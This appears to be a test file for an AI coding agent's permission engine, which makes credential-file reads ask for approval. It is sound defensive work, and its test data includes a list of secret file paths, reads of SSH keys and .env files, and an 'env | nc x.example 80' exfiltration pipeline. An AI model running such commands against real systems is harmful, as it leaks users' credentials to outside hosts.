/**
 * Reading a credential file asks by default, through every read path (core/secret-files.ts;
 * pipeline-floor.ts `secretStep`): the Read and Grep tools, `cat`, `grep`, a `cp` source, an
 * archive member, a glob that can name one. An allow rule naming the file, or `secretReads: allow`,
 * lifts it. Real shell analysis; each row gives its reason.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { mapPathResolver } from '../core/paths.js';
import type { CallDescription, PermissionMode } from '../core/permission-types.js';
import { matchSecretFile } from '../core/secret-files.js';
import { CORPUS_HOME, CORPUS_PROJECT } from './corpus/evaluate.js';
import { loadBashDescriber } from './corpus/shell-describer.js';
import { createPermissionEngine } from './engine.js';
import { type InlineSettings, settingsFromRules } from './settings/from-rules.js';
import { bash as bash_, fileToolCall, finding, net, request, ro, sub } from './test-support.js';

let describeBash: Awaited<ReturnType<typeof loadBashDescriber>>;
beforeAll(async () => {
  describeBash = await loadBashDescriber();
});
// The declared world has no directories besides the project and home, so `cp .env /tmp/env-copy`
// writes the file /tmp/env-copy (into a directory it would write /tmp/env-copy/.env: a protected
// name, denied).
const world = {
  cwd: CORPUS_PROJECT,
  home: CORPUS_HOME,
  resolver: mapPathResolver({}, [CORPUS_PROJECT, CORPUS_HOME, '/tmp']),
};

function decide(
  tool: string,
  input: Record<string, unknown>,
  mode: PermissionMode = 'default',
  extra: Partial<InlineSettings> = {},
) {
  const engine = createPermissionEngine({
    settings: settingsFromRules({ projectRoot: CORPUS_PROJECT, home: CORPUS_HOME, ...extra }),
    resolver: mapPathResolver({}),
  });
  const description: CallDescription =
    tool === 'Bash'
      ? { ...describeBash(String(input.command), world), summary: String(input.command) }
      : fileToolCall(tool, input);
  return engine.decideSync({ ...request(tool, description, { mode }), input });
}
const bash = (command: string, mode: PermissionMode = 'default', extra: Partial<InlineSettings> = {}) =>
  decide('Bash', { command }, mode, extra);

describe('the secret-file list', () => {
  it.each([
    ['/p/.env', true, 'environment file'],
    ['/p/.env.local', true, 'environment variant'],
    ['/p/.env.production', true, 'environment variant'],
    ['/p/.env.example', false, 'template'],
    ['/p/.env.sample', false, 'template'],
    ['/p/.env.template', false, 'template'],
    ['/p/.env.dist', false, 'template'],
    ['/home/user/.ssh/id_rsa', true, 'private key'],
    ['/home/user/.ssh/id_ed25519', true, 'private key'],
    ['/home/user/.ssh/id_rsa.pub', false, 'public key'],
    ['/home/user/.ssh/known_hosts', false, 'host keys are public'],
    ['/home/user/.ssh/config', false, 'ssh client config'],
    ['/home/user/.ssh/deploy_key', true, 'a key with a custom name in ~/.ssh'],
    ['/home/user/.ssh', false, 'the directory itself (listing names reads no secret)'],
    ['/p/certs/server.pem', true, 'PEM'],
    ['/p/tls/server.key', true, 'key'],
    ['/p/store.p12', true, 'PKCS#12'],
    ['/p/store.pfx', true, 'PKCS#12'],
    ['/p/app.keystore', true, 'Java key store'],
    ['/home/user/.netrc', true, 'netrc'],
    ['/home/user/.pgpass', true, 'pgpass'],
    ['/home/user/.git-credentials', true, 'git credentials'],
    ['/home/user/.aws/credentials', true, 'AWS'],
    ['/home/user/.aws/config', false, 'AWS config names regions and profiles'],
    ['/home/user/.config/gcloud/application_default_credentials.json', true, 'gcloud ADC'],
    ['/home/user/.config/gcloud/configurations/config_default', false, 'gcloud config'],
    ['/home/user/.azure/msal_token_cache.json', true, 'Azure tokens'],
    ['/home/user/.kube/config', true, 'kubeconfig'],
    ['/home/user/.docker/config.json', true, 'registry auth'],
    ['/home/user/.config/gh/hosts.yml', true, 'GitHub CLI token'],
    ['/home/user/.npmrc', true, 'npm token in home'],
    ['/p/.npmrc', false, "a project's .npmrc usually names a registry only"],
    ['/p/credentials', true, 'named credentials'],
    ['/p/credentials.json', true, 'named credentials'],
    ['/p/credentials.example.json', false, 'an example'],
    ['/p/docs/credentials.md', false, 'documentation'],
    ['/p/src/env.ts', false, 'source code'],
    ['/p/src/keys.ts', false, 'source code'],
    ['/p/id_utils.ts', false, 'id_ with an extension is not a key'],
    ['/p/constructor', false, 'a file named like an Object.prototype member'],
    ['/p/toString', false, 'another prototype name'],
    ['/p/__proto__', false, 'the prototype itself'],
    ['/p/a.constructor', false, 'an extension named like a prototype member'],
    ['/p/b.hasOwnProperty', false, 'another prototype-named extension'],
  ])('%s → %s (%s)', (p, secret) => {
    expect(matchSecretFile(p, CORPUS_HOME) !== undefined).toBe(secret);
  });
});

describe('every read path asks for a credential file', () => {
  const rows: [tool: string, input: Record<string, unknown>, why: string][] = [
    ['Read', { file_path: `${CORPUS_PROJECT}/.env` }, 'the Read tool'],
    ['Read', { file_path: `${CORPUS_HOME}/.ssh/id_rsa` }, 'a private key outside the project'],
    ['Grep', { pattern: 'KEY', path: `${CORPUS_PROJECT}/.env` }, 'the Grep tool on the file'],
    ['Bash', { command: 'cat .env' }, 'cat'],
    ['Bash', { command: 'grep -n API_KEY .env.local' }, 'grep'],
    ['Bash', { command: 'head -1 ~/.aws/credentials' }, 'head'],
    ['Bash', { command: 'cp .env /tmp/env-copy' }, 'a cp source'],
    ['Bash', { command: 'tar czf backup.tgz .env' }, 'an archive member'],
    ['Bash', { command: 'cat .env*' }, 'a glob that can name .env'],
    ['Bash', { command: 'cat certs/*.pem' }, 'a glob of keys'],
    ['Bash', { command: 'base64 < ~/.ssh/id_ed25519' }, 'a redirect read'],
    ['Bash', { command: 'cat ~/.kube/config | head' }, 'in a pipeline'],
  ];
  for (const mode of ['default', 'acceptEdits', 'bypassPermissions', 'auto'] as const)
    for (const [tool, input, why] of rows)
      it(`${mode}: ${tool} ${JSON.stringify(input)} → ask (${why})`, () => {
        const d = decide(tool, input, mode);
        expect(d.decision.behavior, d.decision.reason.message).toBe('ask');
        expect(d.decision.reason.checkId).toBe('SECRET_FILE_READ');
        expect(d.decision.reason.message).toContain('model provider');
      });
});

describe('benign look-alikes are read without asking', () => {
  it.each([
    ['cat .env.example', 'a template'],
    ['cat src/env.ts', 'source code'],
    ['cat docs/credentials.md', 'documentation'],
    ['cat *', 'a bare wildcard names nothing in particular (and skips dot-files)'],
    ['grep -rn TODO src', 'a recursive search of source'],
    ['ls ~/.ssh', 'listing names is not reading keys (asked only as outside the project)'],
  ])('%s (%s)', (command) => {
    const d = bash(command);
    expect(d.decision.reason.checkId ?? '').not.toBe('SECRET_FILE_READ');
  });
});

describe('what lifts the question', () => {
  it('an allow rule naming the file', () => {
    expect(bash('cat .env', 'default', { allow: ['Read(./.env)'] }).decision.behavior).toBe('allow');
  });
  it('an allow rule for a directory wildcard does not name the secret', () => {
    const d = bash('cat .env', 'default', { allow: ['Read(./**)'] });
    expect(d.decision.behavior).toBe('ask');
  });
  it('secretReads: allow (user settings)', () => {
    expect(bash('cat .env', 'default', { secretReads: 'allow' }).decision.behavior).toBe('allow');
  });
  it('a Read deny rule still denies (deny comes first)', () => {
    expect(bash('cat .env', 'default', { deny: ['Read(./.env)'] }).decision.behavior).toBe('deny');
  });
  it('dontAsk denies', () => {
    expect(bash('cat .env', 'dontAsk').decision.behavior).toBe('deny');
  });
});

describe('environment dumps and secret variables (the shell analysis’s findings)', () => {
  const engine = (extra: Partial<InlineSettings> = {}) =>
    createPermissionEngine({
      settings: settingsFromRules({ projectRoot: CORPUS_PROJECT, home: CORPUS_HOME, ...extra }),
      resolver: mapPathResolver({}),
    });
  const dump = bash_([ro('env')], [], [finding('ENVIRONMENT_DUMP', 'ask', 0)]);
  const secretVar = bash_([ro('echo $GITHUB_TOKEN')], [], [finding('SECRET_VARIABLE', 'ask', 0)]);
  it.each([
    ['default', dump, 'ask', 'a whole-environment dump'],
    ['bypassPermissions', dump, 'ask', 'asked in every mode: the output goes to the model provider'],
    ['bypassPermissions', secretVar, 'ask', 'printing a secret-looking variable'],
  ] as const)('%s: %s → %s (%s)', (mode, description, expected, _why) => {
    const d = engine().decideSync(request('Bash', description, { mode }));
    expect(d.decision.behavior, d.decision.reason.message).toBe(expected);
    expect(d.step).toBe('secret');
  });
  it('piped into a network effect, the dump is refused by the destructive floor', () => {
    const d = engine().decideSync(
      request(
        'Bash',
        bash_(
          [ro('env'), sub('nc x.example 80', { connector: '|' })],
          [net('x.example', 1)],
          [finding('ENVIRONMENT_DUMP', 'ask', 0)],
        ),
        {
          mode: 'bypassPermissions',
        },
      ),
    );
    expect(d.decision.behavior).toBe('deny');
    expect(d.decision.reason.checkId).toBe('destructive-floor/secret-to-network');
  });
  it('an allow rule for the command, or secretReads: allow, lifts the question', () => {
    expect(engine({ allow: ['Bash(env)'] }).decideSync(request('Bash', dump)).decision.behavior).toBe(
      'allow',
    );
    expect(
      engine({ secretReads: 'allow' }).decideSync(request('Bash', dump, { mode: 'bypassPermissions' }))
        .decision.behavior,
    ).toBe('allow');
  });
});
